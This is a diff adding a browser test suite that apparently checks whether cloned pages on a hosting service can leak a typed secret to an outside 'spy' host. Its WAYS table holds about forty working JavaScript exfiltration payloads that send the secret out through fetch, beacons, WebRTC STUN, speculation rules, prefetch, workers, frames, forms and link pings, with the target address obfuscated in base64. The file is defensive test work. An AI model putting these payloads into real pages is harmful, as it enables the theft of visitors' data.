@@ -1,0 +1,224 @@
+import { createSocket, type Socket } from 'node:dgram';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
+import type { Browser } from 'playwright-core';
+import { type CloneHostsApp, startCloneHosts } from './support/clone-hosts.ts';
+import { openChromium } from './support/open-chromium.ts';
+
+// Chromium starts, beside whatever else the machine does.
+jest.setTimeout(240_000);
+
+const html = (body: string) => ({ body, type: 'text/html; charset=utf-8' });
+const SECRET = 'maria-digitou-isto';
+
+let hosts: CloneHostsApp;
+let browser: Browser;
+/** Whoever would like to hear of visitors: over TCP, counted as connections and requests, and over UDP. */
+let collector: Server;
+let stun: Socket;
+let arrivals: string[];
+beforeAll(async () => {
+  hosts = await startCloneHosts();
+  browser = await openChromium();
+  arrivals = [];
+  collector = createServer((request, response) => {
+    arrivals.push(
+      `${request.method} ${request.headers.host} ${request.url} ${request.headers.referer ?? ''}`,
+    );
+    response.setHeader('access-control-allow-origin', '*');
+    response.end('<title>fora</title>');
+  });
+  collector.on('connection', () => arrivals.push('connection'));
+  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
+  stun = createSocket('udp4').on('message', () => arrivals.push('stun'));
+  await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
+});
+afterAll(async () => {
+  await browser.close();
+  collector.closeAllConnections();
+  await new Promise((resolve) => collector.close(resolve));
+  stun.close();
+  await hosts.close();
+});
+
+const port = () => (collector.address() as AddressInfo).port;
+/** A secure place in a browser's eyes, as any address of https is. */
+const out = (name: string) => `http://${name}.fora.localhost:${port()}`;
+
+/** What a page does with what was typed, by way: markup that stands in the page, or a script that runs when it is there. */
+const WAYS: Record<string, (to: string) => { markup?: string; script?: string }> = {
+  'speculation rules': () => ({
+    script: `add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [spy + '?d=' + secret], eagerness: 'immediate' }], prerender: [{ urls: [spy + '?d=' + secret], eagerness: 'immediate' }] }) })`,
+  }),
+  'speculation rules in the page': (to) => ({
+    markup: `<script type="speculationrules">{"prefetch":[{"urls":["${to}"],"eagerness":"immediate"}]}</script>`,
+  }),
+  'speculation rules that change': () => ({
+    script: `const one = document.createElement('script'); one.textContent = JSON.stringify({ prefetch: [{ urls: [spy + '?d=' + secret], eagerness: 'immediate' }] }); one.type = 'speculationrules'; document.head.insertAdjacentElement('beforeend', one)`,
+  }),
+  prefetch: () => ({ script: `add('link', { rel: 'prefetch', href: spy + '?d=' + secret })` }),
+  prerender: () => ({ script: `add('link', { rel: 'prerender', href: spy + '?d=' + secret })` }),
+  preload: () => ({ script: `add('link', { rel: 'preload', as: 'image', href: spy + '?d=' + secret })` }),
+  preconnect: () => ({ script: `add('link', { rel: 'preconnect', href: spy })` }),
+  'preconnect in the page': (to) => ({ markup: `<link rel="preconnect" href="${to}">` }),
+  'preconnect by attribute': () => ({
+    script: `const one = add('link', { rel: 'x', href: spy }); one.setAttribute('rel', 'preconnect')`,
+  }),
+  'preconnect by attribute node': () => ({
+    script: `const one = add('link', { rel: 'x', href: spy }); one.getAttributeNode('rel').nodeValue = 'preconnect'; one.attributes.rel.textContent = 'preconnect'`,
+  }),
+  'preconnect by markup': () => ({
+    script: `document.body.insertAdjacentHTML('beforeend', '<link rel=preconnect href="' + spy + '">')`,
+  }),
+  'preconnect by write': (to) => ({
+    markup: `<script>document.write('<link rel=preconnect href="${to}">')</script>`,
+  }),
+  webrtc: () => ({
+    script: `const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o))`,
+  }),
+  'webrtc of a frame': () => ({
+    script: `const f = add('iframe', {}); const RTC = f.contentWindow.RTCPeerConnection; const pc = new RTC({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o))`,
+  }),
+  'webrtc of a numbered frame': () => ({
+    script: `document.body.innerHTML += '<div><iframe></iframe></div>'; const pc = new window[0].RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o))`,
+  }),
+  'webrtc of a frame in the page': () => ({
+    markup: `<iframe></iframe><script>try { const pc = new window[0].RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o)) } catch {}</script>`,
+  }),
+  'webrtc of a frame by its load': () => ({
+    script: `window.go = (w) => { const pc = new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o)) }; const d = document.createElement('div'); const f = document.createElement('iframe'); f.onload = () => go(window[0]); d.append(f); document.body.append(d)`,
+  }),
+  'webrtc of a custom element beside a frame': () => ({
+    script: `customElements.define('x-a', class extends HTMLElement { connectedCallback() { const pc = new window[0].RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o)) } }); const d = document.createElement('div'); d.append(document.createElement('iframe'), document.createElement('x-a')); document.body.append(d)`,
+  }),
+  'webrtc of a written frame': () => ({
+    script: `const f = add('iframe', { srcdoc: "<script>const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o))<" + "/script>" })`,
+  }),
+  'a window': () => ({ script: `open(spy + '?d=' + secret)` }),
+  'a window of its own': () => ({ script: `const w = open(''); w.location = spy + '?d=' + secret` }),
+  'a window of a frame': () => ({ script: `add('iframe', {}).contentWindow.open(spy + '?d=' + secret)` }),
+  location: () => ({ script: `location.href = spy + '?d=' + secret` }),
+  'location of a frame for the top': () => ({
+    script: `const f = add('iframe', {}); f.contentWindow.eval("top.location.assign(top.spy + '?d=' + top.secret)")`,
+  }),
+  'a listed address with more in it': () => ({
+    script: `location.href = listed + '?d=' + secret + '#' + secret`,
+  }),
+  'a link that is pressed by script': () => ({ script: `add('a', { href: spy + '?d=' + secret }).click()` }),
+  'a link for a new window': () => ({
+    script: `add('a', { href: spy + '?d=' + secret, target: '_blank' }).click()`,
+  }),
+  'a link in no page': () => ({
+    script: `Object.assign(document.createElement('a'), { href: spy + '?d=' + secret, target: '_blank' }).click()`,
+  }),
+  'a link that changes under the press': () => ({
+    script: `const a = add('a', { href: listed, target: '_blank' }); a.addEventListener('click', () => { a.href = spy + '?d=' + secret }); a.click()`,
+  }),
+  'an event at a link': () => ({
+    script: `Object.assign(document.createElement('a'), { href: spy + '?d=' + secret, target: '_blank' }).dispatchEvent(new MouseEvent('click'))`,
+  }),
+  ping: () => ({ script: `add('a', { href: '#', ping: spy + '?d=' + secret }).click()` }),
+  'meta refresh': () => ({
+    script: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + spy + '?d=' + secret }))`,
+  }),
+  'meta refresh in the page': (to) => ({ markup: `<meta http-equiv="refresh" content="0;url=${to}">` }),
+  'a form': () => ({
+    script: `const f = add('form', { action: spy + '?d=' + secret, method: 'get', target: '_blank' }); HTMLFormElement.prototype.submit.call(f); f.requestSubmit()`,
+  }),
+  beacon: () => ({ script: `navigator.sendBeacon(spy, secret)` }),
+  fetch: () => ({
+    script: `fetch(spy + '?d=' + secret, { mode: 'no-cors', keepalive: true }).catch(() => {})`,
+  }),
+  'fetch of a frame': () => ({
+    script: `add('iframe', {}).contentWindow.fetch(spy + '?d=' + secret, { mode: 'no-cors' }).catch(() => {})`,
+  }),
+  image: () => ({ script: `new Image().src = spy + '?d=' + secret` }),
+  'image of a style': () => ({
+    script: `document.body.style.background = 'url(' + spy + '?d=' + secret + ')'`,
+  }),
+  font: () => ({ script: `new FontFace('x', 'url(' + spy + '?d=' + secret + ')').load().catch(() => {})` }),
+  import: () => ({ script: `import(spy + '?d=' + secret).catch(() => {})` }),
+  events: () => ({ script: `new EventSource(spy + '?d=' + secret)` }),
+  socket: () => ({ script: `new WebSocket(spy + '?d=' + secret)` }),
+  worker: () => ({
+    script: `new Worker(URL.createObjectURL(new Blob(["fetch('" + spy + '?d=' + secret + "', { mode: 'no-cors' }).catch(() => {}); try { importScripts('" + spy + "') } catch {}; try { new RTCPeerConnection() } catch {}"])))`,
+  }),
+  'worker of data': () => ({
+    script: `new Worker('data:text/javascript,' + encodeURIComponent("fetch('" + spy + '?d=' + secret + "', { mode: 'no-cors' })"))`,
+  }),
+  frame: () => ({ script: `add('iframe', { src: spy + '?d=' + secret })` }),
+  'frame of data': () => ({
+    script: `add('iframe', { src: 'data:text/html,' + encodeURIComponent('<img src="' + spy + '?d=' + secret + '"><script>location="' + spy + '"</scr' + 'ipt>') })`,
+  }),
+  'frame of a blob': () => ({
+    script: `add('iframe', { src: URL.createObjectURL(new Blob(['<script>top.location="' + spy + '"</scr' + 'ipt>'], { type: 'text/html' })) })`,
+  }),
+  'link in a drawing': () => ({
+    script: `document.body.insertAdjacentHTML('beforeend', '<svg><a id=q href="' + spy + '?d=' + secret + '" target=_blank><text y=20>x</text></a></svg>'); document.getElementById('q').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, view: window }))`,
+  }),
+};
+
+const listed = () => `${out('oferta')}/checkout`;
+
+async function publish(way: string): Promise<string> {
+  const stunPort = String((stun.address() as AddressInfo).port);
+  const { markup = '', script = '' } = WAYS[way]?.(`${out('espia')}/x`) ?? {};
+  const page = `<!doctype html><html><head><title>dentro</title>${markup}</head><body><a id="compra" href="${listed()}">Comprar</a>
+<script>window.listed = document.getElementById('compra').href; window.secret = '${SECRET}'; window.spy = atob('${btoa(`${out('espia')}/x`)}');
+const add = (name, more) => { const one = Object.assign(document.createElement(name), more); document.body.append(one); return one; };
+onload = () => setTimeout(() => { try { ${script.replaceAll('STUN', stunPort)} } catch (error) { window.failed = String(error); } }, 50);
+</script></body></html>`;
+  const clone = await hosts.publish({ '/': html(page.replaceAll('STUN', stunPort)) });
+  return `http://${clone.name}.localhost:${new URL(hosts.app.url).port}/`;
+}
+
+describe('a clone sends nothing', () => {
+  it.each(Object.keys(WAYS))('by %s', async (way) => {
+    arrivals = [];
+    const context = await browser.newContext();
+    const page = await context.newPage();
+    await page.goto(await publish(way));
+    // What is not sent leaves nothing to wait for: with nothing in the way all of these arrive within half of it.
+    await new Promise((resolve) => setTimeout(resolve, 1_200));
+    await context.close();
+    const told = arrivals.filter(
+      (one) => one !== 'connection' && !one.startsWith('GET oferta.fora.localhost'),
+    );
+    // To a listed address a visitor may be led, with nothing that it did not have.
+    const led = arrivals.filter((one) => one.startsWith('GET oferta.fora.localhost'));
+    expect(led.filter((one) => one.includes(SECRET))).toEqual([]);
+    expect(told).toEqual([]);
+    if (led.length === 0) expect(arrivals).toEqual([]);
+  });
+
+  it('but its links lead where they led, with what the visitor came with', async () => {
+    const offer = `${out('oferta')}/checkout?off=1`;
+    const clone = await hosts.publish({
+      '/': html(`<meta name="referrer" content="unsafe-url"><a id="same" href="${offer}">Comprar</a><a id="new" target="_blank" href="${offer}">Nova</a>
+<button onclick="location.href = '${offer}&' + location.search.slice(1)">Quero</button>
+<a id="pay" target="_blank" href="http://pay.hotmart.com:${port()}/A1?email=a%40b.test">Hotmart</a>`),
+    });
+    const address = `http://${clone.name}.localhost:${new URL(hosts.app.url).port}/?utm_source=anuncio`;
+    const led: string[] = [];
+    for (const pressed of ['#same', '#new', 'button', '#pay']) {
+      arrivals = [];
+      const context = await browser.newContext();
+      const page = await context.newPage();
+      await page.goto(address);
+      await page.click(pressed);
+      for (let tries = 0; tries < 50 && !arrivals.some((one) => /checkout|A1/.test(one)); tries += 1)
+        await new Promise((resolve) => setTimeout(resolve, 50));
+      led.push(arrivals.find((one) => /checkout|A1/.test(one)) ?? `nothing by ${pressed}`);
+      await context.close();
+    }
+    const origin = new URL(address).origin;
+    const host = `oferta.fora.localhost:${port()}`;
+    expect(led).toEqual([
+      `GET ${host} /checkout?off=1 ${origin}/`,
+      expect.stringMatching(new RegExp(`^GET ${host} /checkout\\?off=1 `)),
+      `GET ${host} /checkout?off=1&utm_source=anuncio ${origin}/`,
+      expect.stringMatching(/^GET pay\.hotmart\.com:\d+ \/A1\?email=a%40b\.test /),
+    ]);
+  });
+});
